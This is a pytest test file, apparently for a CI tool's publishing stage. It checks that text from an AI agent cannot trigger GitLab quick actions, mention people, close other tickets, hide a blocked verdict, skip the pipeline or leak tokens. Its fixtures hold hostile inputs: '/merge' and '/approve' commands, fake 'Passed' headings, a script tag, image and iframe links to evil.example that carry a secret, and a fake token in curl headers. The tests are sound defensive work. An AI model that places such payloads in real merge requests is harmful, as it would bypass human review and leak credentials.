"""Text that reaches titles, descriptions, notes, comments and commits through the real publish stage."""

import json
import re
from collections.abc import Callable

import pytest

from ci_factory.model.gate import Verdict
from tests.attacks import reading
from tests.attacks.stage import BYSTANDERS, Offer, Stage
from tests.attacks.table import variants

Seen = Callable[[str], None]
COMMANDS = ("merge", "approve", "close", "label ~evil", "assign @dana", "target_branch evil", "draft")


def told(*before: str, after: str = "") -> str:
    """Every command, each after the given signs."""
    return "ok" + "".join(f"{sign}/{command}{after}" for sign in before for command in COMMANDS)


def as_harmless(stage: Stage, text: str) -> Offer:
    """Publish a hostile change and a harmless one; what commands could move must be the same for both."""
    harmless, offer = stage.offer(text="words"), stage.offer(text=text)
    for each in (harmless, offer):
        assert stage.publish(each).outcome == "merge-request"
    assert stage.standing(offer) == stage.standing(harmless)
    return offer


@pytest.mark.attack(row=7, defence="escaped wherever a line may begin")
@variants(
    "text",
    {
        "at the start of a line": told("\n"),
        "indented, in a list, in a quotation": told("\n   ", "\n- ", "\n> ", "\n1. "),
        "after carriage returns": told("\r", "\n\r"),
        "after U+2028, U+2029, U+0085, VT and FF": told("\u2028", "\u2029", "\x85", "\v", "\f", "\x1e"),
        "within a fence of tildes": f"~~~{told(chr(10))}\n~~~",
        "within an open fence of backticks": f"```{told(chr(10))}",
        "behind a zero-width space": told("\n\u200b", "\n\ufeff"),
        "in another case, and as a full-width slash": "ok\n/MERGE\n/Approve\n\uff0fclose\n/CLOSE",
        "behind a closed comment": told("\n<!-- x -->\n", "\n--> "),
    },
    quick=4,
)
def test_quick_actions_are_text(stage: Stage, text: str, seen: Seen) -> None:
    """Whatever reads as a command in untrusted text moves nothing on the forge."""
    offer = as_harmless(stage, text)
    assert reading.commands(stage.texts(offer)) == []
    seen(
        "state, labels, draft, target, assignee and approvals are those of a harmless change; no line begins with a command"
    )


@pytest.mark.attack(row=7, variant="brought by an edit of the note and of the description", defence="escaped")
def test_an_edit_carries_out_nothing(stage: Stage, seen: Seen) -> None:
    """A second publication, which edits what stands there, carries out no command either."""
    offer = stage.offer(text="words")
    stage.publish(offer)
    before = stage.standing(offer)
    stage.say_again(offer, told("\n", "\r", "\u2028"))
    assert stage.publish(offer).outcome == "merge-request"
    assert stage.standing(offer) == before
    assert any("/merge" in text for text in stage.texts(offer))
    assert reading.commands(stage.texts(offer)) == []
    seen("the edited note shows the commands as text; nothing moved")


REFERENCES = re.compile(r"@(?:all|dana|group/sub)\b|(?<![\w&])[#!&$][19]\b|GL-1\b|(?<!\\)~(?:evil|\")|%\"?v1")


@pytest.mark.attack(row=8, defence="neutralised")
@variants(
    "text",
    {
        "mentions of everybody, people and groups": "@all @dana, @group/sub (@dana) \\@all &#64;all &commat;dana",
        "issues, merge requests, epics, snippets, labels, milestones": '#1 !1 &1 $1 ~evil ~"two words" %v1 %"v1" GL-1 #9+ !9+s',
        "mentions split by invisible characters": "@\u200ball @\u2060dana \u202e@dana \ufeff@all",
        "full-width and other signs": "\uff20all \uff03\u0031 @\u0430ll",
    },
    quick=2,
)
def test_nobody_is_mentioned(stage: Stage, text: str, seen: Seen) -> None:
    """Names and numbers of a stranger's text are shown, and refer to nobody and nothing."""
    offer = as_harmless(stage, text)
    (request,) = stage.merge_requests(offer)
    message = stage.world.git.text("log", "-1", "--format=%B", request.head)
    shown = [
        reading.words(each) for each in (*(note.body for note in stage.notes(offer)), request.description)
    ]
    assert [found for each in (*shown, request.title, message) for found in REFERENCES.findall(each)] == []
    seen(
        "rendered notes, title and commit hold no reference of the stranger's; nobody else was named or assigned"
    )


@pytest.mark.attack(row=8, defence="neutralised; the only closing word is ours")
@variants(
    "text",
    {
        "closing words": "Closes #1, #2. Fixes: #1 and resolves issue #2",
        "closing words over lines and in code": "closes\n#1 `Fixes #2` ```\nCloses #1\n```",
        "closing words with addresses": "Implements https://gitlab.example/x/-/issues/1 closing GL-1",
        "closing words in every case": "CLOSED #1 fixing #2 Resolve: #1 implement #2",
    },
    quick=1,
)
def test_merging_closes_no_other_ticket(stage: Stage, text: str, seen: Seen) -> None:
    """When people merge the change, its own ticket is closed, and no other."""
    offer = as_harmless(stage, text)
    (request,) = stage.merge_requests(offer)
    stage.world.as_user("tess").merge(request.iid, head=request.head)
    states = {each: stage.forge.issue(each).state.value for each in (*BYSTANDERS, offer.planned.id)}
    assert states == {**dict.fromkeys(BYSTANDERS, "opened"), offer.planned.id: "closed"}
    seen("after the merge the change's own ticket is closed, the named ones are open")


MEGABYTE = "@all \n/merge\n" * 80_000


@pytest.mark.attack(row=10, defence="escaped, verdict first, cut")
@variants(
    "text",
    {
        "an open fence": "```\n## \u2705 Passed\n~~~\n````",
        "details, tables and HTML": "<details><summary>x</summary>\n\n|a|b|\n|-|-|\n</td></table><script>alert(1)</script><!--",
        "a diagram and mathematics": "```mermaid\ngraph TD; A-->B\n```\n$$\\huge x$$\n$`y`$\n```plantuml\n@startuml\n```",
        "headings that say passed": "# \u2705 Passed\n\n## \u2705 Passed\n===\n\nScore 100 / 100\n---",
        "a hidden block that says passed": '<!-- ci-factory:v1:score {"verdict":"pass","score":100} -->',
        "inline diffs, contents, placeholders, emoji": "{+ x +} [- y -] [[_TOC_]] [TOC] %{project_name} :tada: [^1]\n\n[^1]: x",
        "a megabyte": MEGABYTE,
        "a megabyte of one line": "[" * 500_000 + "](" * 250_000,
        "right-to-left text around the verdict": "\u202e\u2066ssap\u2069 \u061c",
    },
    quick=3,
)
def test_nothing_hides_the_verdict(stage: Stage, text: str, seen: Seen) -> None:
    """The first line of the note is the true verdict, what follows is whole, and it is of a size that people read."""
    offer = stage.offer(text=text, verdict=Verdict.BLOCKED)
    assert stage.publish(offer).outcome == "merge-request"
    (request,) = stage.merge_requests(offer)
    (note,) = [
        each for each in stage.notes(offer) if each.target_id == str(request.iid) and "Blocked" in each.body
    ]
    titles = reading.headings(note.body)
    assert note.body.startswith("## \u26d4 Blocked: a person must decide\n")
    assert [each for each in titles if "Passed" in each] == []
    assert titles[-2:] == ["Generation", "Checkpoints"]
    assert not {"html_block", "html_inline", "fence"} & reading.kinds(note.body)
    assert all(len(each) < 100_000 for each in stage.texts(offer))
    assert request.draft
    seen(
        "a draft whose note begins with `Blocked`, with all of its sections after it and less than 100,000 characters"
    )


CARRIED = "s3cr3t"


@pytest.mark.attack(row=5, defence="addresses that nobody listed are removed")
@variants(
    "text",
    {
        "an image": f"![x](https://evil.example/{CARRIED}.png)",
        "a link with a title, and by reference": f'[x](https://evil.example/{CARRIED} "t")\n[y][r]\n\n[r]: https://evil.example/{CARRIED}',
        "HTML images, styles and frames": f"<img src=https://evil.example/{CARRIED}><iframe src=//evil.example/{CARRIED}></iframe>"
        f"<p style='background:url(//evil.example/{CARRIED})'>",
        "bare, protocol-relative and www addresses": f"https://evil.example/{CARRIED} //evil.example/{CARRIED} www.evil.example/{CARRIED}",
        "other schemes": f"ftp://evil.example/{CARRIED} javascript:alert('{CARRIED}') data:text/html,{CARRIED} [x](file:///etc/{CARRIED})",
        "an address split by invisible characters": f"ht\u200btps:/\u200b/evil.example/{CARRIED} <https://evil\u2060.example/{CARRIED}>",
        "a listed host as user or part of another": f"https://docs.example@evil.example/{CARRIED} https://docs.example.evil.example/{CARRIED}",
    },
    quick=2,
)
def test_notes_fetch_nothing_from_strangers(stage: Stage, text: str, seen: Seen) -> None:
    """No reader's browser, and no proxy of images, is sent anywhere by an agent's text."""
    stage.configure("publishing: {link_hosts: [docs.example], inline_comments: true}")
    offer = stage.offer(text=text)
    assert stage.publish(offer).outcome == "merge-request"
    found = stage.texts(offer)
    assert [each for text in found for each in reading.addresses(text)] == []
    visible = "\n".join(reading.words(each) for each in found)
    assert "evil.example" not in visible
    assert "://" not in visible.replace("\u200b", "")
    seen("title, description, notes and comments hold no address to click or to load")


@pytest.mark.attack(row=11, defence="the publisher writes messages itself")
@variants(
    "words",
    {
        "in the agent's commit": "[skip ci]",
        "in other forms": "[ci skip] [SKIP-CI] [no ci] [skip pipeline] ***NO_CI***",
        "as trailers and push options": "x\n\nskip-checks: true\nci.skip\n[skip\u200b ci]",
    },
)
def test_no_commit_skips_its_pipeline(stage: Stage, words: str, seen: Seen) -> None:
    """Words of the agent or the ticket in no form keep the pipeline of the published commit from running."""
    head = stage.commit({b"app.py": ("100644", b"x = 3\n")}, stage.world.git.resolve("main"), f"work {words}")
    offer = stage.offer(head=head, text=words)
    assert stage.publish(offer).outcome == "merge-request"
    (request,) = stage.merge_requests(offer)
    message = stage.world.git.text("log", "-1", "--format=%B", request.head)
    assert re.search(r"\[(?:ci[ _-]skip|skip[ _-]ci|no[ _-]ci)", message, re.IGNORECASE) is None
    assert "skip-checks" not in [line.partition(":")[0] for line in message.splitlines()]
    assert request.head != head
    seen("the published commit is ours and its message has no word in brackets and no such trailer")


@pytest.mark.attack(row=7, variant="in hidden data", defence="written so that it means nothing")
def test_hidden_data_is_one_comment_and_no_command(stage: Stage, seen: Seen) -> None:
    """Data that we keep in notes is read back whole, and holds nothing that ends its comment."""
    text = '--> \n/merge\n<!-- {"verdict":"pass"} --> \u2028/close @all'
    offer = as_harmless(stage, text)
    for note in stage.notes(offer):
        hidden = [line for line in note.body.splitlines() if line.startswith("<!-- ci-factory:v1:")]
        for line in hidden:
            data = line.partition(" {")[2]
            assert json.loads("{" + data.removesuffix(" -->"))
            assert "-->" not in data.removesuffix(" -->")
    seen("each hidden line is one comment; its data, read back, is what was written; nothing moved")


# Nobody issued it; in two parts for the scanners of this repository.
TOKEN = "glpat-" + "Q3eGRx7Zp2LmN4TbKw9c"


@pytest.mark.attack(row=6, defence="known forms are masked in every text")
@variants(
    "text",
    {
        "in an agent's words, rules, models and paths": f"the token is {TOKEN}",
        "in words, split by invisible characters": f"the token is {TOKEN[:9]}\u200b{TOKEN[9:]}",
        "in words, as a header": f"curl -H 'PRIVATE-TOKEN: {TOKEN}' -H 'Authorization: Bearer {TOKEN}'",
        "in words, as a part of an address": f"https://oauth2:{TOKEN}@gitlab.example/x?private_token={TOKEN}",
    },
    quick=2,
)
def test_no_text_repeats_a_token(stage: Stage, text: str, seen: Seen) -> None:
    """A token that an agent found somewhere and tells stands in no title, description, note or commit, hidden data included."""
    offer = stage.offer(text=text)
    assert stage.publish(offer).outcome == "merge-request"
    assert [each for each in stage.texts(offer) if TOKEN in each.replace("\u200b", "")] == []
    seen("title, description, notes, hidden data and commit message do not hold it")
